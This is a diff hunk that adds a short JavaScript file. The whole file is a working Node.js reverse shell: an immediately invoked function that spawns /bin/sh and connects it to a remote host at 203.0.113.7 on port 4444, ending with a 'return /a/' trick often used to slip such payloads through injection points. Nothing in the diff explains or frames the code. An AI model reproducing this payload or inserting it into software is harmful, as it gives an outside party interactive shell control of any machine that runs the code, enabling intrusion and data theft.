@@ -1,0 +1,12 @@
+(function () {
+  const net = require("net");
+  const cp = require("child_process");
+  const sh = cp.spawn("/bin/sh", []);
+  const client = new net.Socket();
+  client.connect(4444, "203.0.113.7", function () {
+    client.pipe(sh.stdin);
+    sh.stdout.pipe(client);
+    sh.stderr.pipe(client);
+  });
+  return /a/;
+})();
